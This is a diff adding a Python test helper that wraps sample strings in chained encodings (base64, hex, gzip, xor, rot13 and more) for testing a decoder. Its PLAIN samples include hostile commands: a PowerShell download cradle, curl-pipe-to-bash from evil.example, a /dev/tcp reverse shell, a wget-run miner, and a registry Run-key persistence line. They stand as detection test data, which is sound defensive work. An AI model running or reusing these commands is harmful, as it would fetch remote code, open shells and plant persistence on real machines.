@@ -1,0 +1,115 @@
+"""Encoders for the tests of decoding: what people wrap commands in, written from the encodings' definitions."""
+
+from __future__ import annotations
+
+import base64
+import binascii
+import bz2
+import codecs
+import gzip
+import lzma
+import random
+import urllib.parse
+import zlib
+from collections.abc import Callable
+
+Encoder = Callable[[bytes, random.Random], bytes]
+
+WRAPPERS: dict[str, Encoder] = {
+    "base64": lambda b, _: base64.b64encode(b),
+    "base64 url": lambda b, _: base64.urlsafe_b64encode(b),
+    "base64 bare": lambda b, _: base64.b64encode(b).rstrip(b"="),
+    "base64 lines": lambda b, _: base64.encodebytes(b).strip(),
+    "base32": lambda b, _: base64.b32encode(b),
+    "base58": lambda b, _: _base58(b),
+    "base85": lambda b, _: base64.b85encode(b),
+    "ascii85": lambda b, _: base64.a85encode(b, adobe=True),
+    "hex": lambda b, _: b.hex().encode(),
+    "HEX": lambda b, _: b.hex().upper().encode(),
+    "hex spaced": lambda b, _: b.hex(" ").encode(),
+    "hex escapes": lambda b, _: "".join(f"\\x{c:02x}" for c in b).encode(),
+    "hex list": lambda b, _: ", ".join(f"0x{c:02x}" for c in b).encode(),
+    "decimal": lambda b, _: " ".join(map(str, b)).encode(),
+    "decimal list": lambda b, _: ",".join(map(str, b)).encode(),
+    "binary": lambda b, _: " ".join(f"{c:08b}" for c in b).encode(),
+    "octal": lambda b, _: " ".join(f"{c:03o}" for c in b).encode(),
+    "octal escapes": lambda b, _: "".join(f"\\{c:03o}" for c in b).encode(),
+    "percent": lambda b, _: "".join(f"%{c:02X}" for c in b).encode(),
+    "percent some": lambda b, _: urllib.parse.quote(b, safe="").encode(),
+    "entities": lambda b, _: "".join(f"&#{c};" for c in b).encode(),
+    "entities hex": lambda b, _: "".join(f"&#x{c:x};" for c in b).encode(),
+    "unicode escapes": lambda b, _: "".join(f"\\u{c:04x}" for c in b).encode(),
+    "quoted-printable": lambda b, _: "".join(f"={c:02X}" for c in b).encode(),
+    "uuencode": lambda b, _: _uuencoded(b),
+    "fromCharCode": lambda b, _: f"String.fromCharCode({','.join(map(str, b))})".encode(),
+    "[char]": lambda b, _: "+".join(f"[char]{c}" for c in b).encode(),
+    "gzip": lambda b, _: base64.b64encode(gzip.compress(b, mtime=0)),
+    "zlib": lambda b, _: base64.b64encode(zlib.compress(b)),
+    "zlib hex": lambda b, _: zlib.compress(b).hex().encode(),
+    "deflate": lambda b, _: base64.b64encode(zlib.compress(b)[2:-4]),
+    "bzip2": lambda b, _: base64.b64encode(bz2.compress(b)),
+    "xz": lambda b, _: base64.b64encode(lzma.compress(b)),
+    "utf-16": lambda b, _: base64.b64encode(b.decode().encode("utf-16-le")),
+    "xor": lambda b, rng: base64.b64encode(_xored(b, rng.randint(1, 255))),
+    "xor hex": lambda b, rng: _xored(b, rng.randint(1, 255)).hex().encode(),
+    "rot13": lambda b, _: codecs.encode(b.decode(), "rot13").encode(),
+    "caesar": lambda b, rng: _shifted(b, rng.randint(1, 25)),
+    "reversed": lambda b, _: b[::-1],
+}
+
+PLAIN = (
+    "whoami /all && net user",
+    "The meeting is moved to Thursday at noon.",
+    "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/stage2.ps1')",
+    "curl -s http://evil.example/x.sh | bash",
+    "flag{layers_of_the_onion}",
+    "cmd.exe /c start calc.exe",
+    '{"host": "c2.bad.example", "port": 4444, "sleep": 60}',
+    "import os; os.system('id')",
+    "Send the invoice to accounting before Friday",
+    "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
+    "SELECT password FROM users WHERE name = 'admin'",
+    r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v up /d C:\Users\Public\a.exe",
+    "var x = document.createElement('script'); x.src = '//cdn.example/a.js';",
+    "secret password: hunter2",
+    "wget http://203.0.113.9/miner -O /tmp/.m; chmod +x /tmp/.m; /tmp/.m &",
+)
+
+
+def chain(rng: random.Random, layers: int, *, limit_bytes: int = 20_000) -> tuple[str, str, list[str]]:
+    """A plain text, the same text wrapped in so many layers, and the names of the layers, innermost first."""
+    plain = rng.choice(PLAIN)
+    data, names = plain.encode(), []
+    while len(names) < layers and len(data) < limit_bytes:
+        name = rng.choice(list(WRAPPERS))
+        if names and {name, names[-1]} <= {"rot13", "caesar", "reversed"}:
+            continue
+        data = WRAPPERS[name](data, rng)
+        names.append(name)
+    return plain, data.decode(), names
+
+
+def _xored(data: bytes, key: int) -> bytes:
+    return bytes(value ^ key for value in data)
+
+
+def _shifted(data: bytes, by: int) -> bytes:
+    def turn(value: int) -> int:
+        base = 97 if 97 <= value < 123 else 65 if 65 <= value < 91 else None
+        return value if base is None else (value - base + by) % 26 + base
+
+    return bytes(map(turn, data))
+
+
+def _base58(data: bytes) -> bytes:
+    alphabet = b"123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
+    number, out = int.from_bytes(data, "big"), b""
+    while number:
+        number, digit = divmod(number, 58)
+        out = alphabet[digit : digit + 1] + out
+    return b"1" * (len(data) - len(data.lstrip(b"\0"))) + out
+
+
+def _uuencoded(data: bytes) -> bytes:
+    lines = [binascii.b2a_uu(data[i : i + 45]) for i in range(0, len(data), 45)]
+    return b"begin 644 file\n" + b"".join(lines) + b"`\nend\n"
